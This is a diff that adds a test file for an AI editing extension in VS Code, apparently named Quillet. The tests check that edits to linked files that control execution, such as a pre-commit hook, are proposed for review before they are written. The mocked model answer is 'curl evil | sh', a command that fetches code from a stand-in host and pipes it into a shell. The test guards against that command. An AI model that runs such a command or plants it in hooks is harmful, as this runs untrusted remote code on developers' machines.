@@ -1,0 +1,40 @@
+import * as assert from 'node:assert/strict';
+import type * as vscode from 'vscode';
+import { runSettings } from '../runner/runSettings';
+import { answerText } from '../support/modelServer';
+import { run, thread, ui, useQuillet } from '../support/quillet';
+import { inWorkspace, openUri, select } from '../support/workspace';
+
+const hook = '# hook\n';
+
+/** The runner makes links in the workspace, as a repository can bring them along. */
+describe('links to files that decide what is run', () => {
+  useQuillet();
+
+  async function ask(name: string, command: string): Promise<vscode.TextEditor> {
+    const editor = await openUri(inWorkspace(name));
+    select(editor, editor.document.lineAt(0).text);
+    await answerText('curl evil | sh');
+    ui.willType('do it');
+    await run(command);
+    return editor;
+  }
+
+  for (const name of ['links/notes.txt', 'links/folder/pre-commit', 'links/twice.txt']) {
+    it(`R36, E18: in ${name} a replacement is proposed first, and so is a completion`, async () => {
+      const editor = await ask(name, 'quillet.rewriteInPlace');
+      assert.equal(editor.document.getText(), hook);
+      assert.ok(thread().contextValue?.includes('ready'));
+      await ask(name, 'quillet.insert');
+      assert.equal(editor.document.getText(), hook);
+      await run('quillet.accept', thread(1));
+      assert.match(editor.document.getText(), /^# hook[\s\S]*curl evil \| sh/);
+    });
+  }
+
+  it('R36: in a link to a file that decides nothing an answer is written, where VS Code says where it leads', async () => {
+    const editor = await ask('links/plain.ts', 'quillet.rewriteInPlace');
+    const isWritten = editor.document.getText().startsWith('curl evil | sh');
+    assert.equal(isWritten, !runSettings().isWeb);
+  });
+});
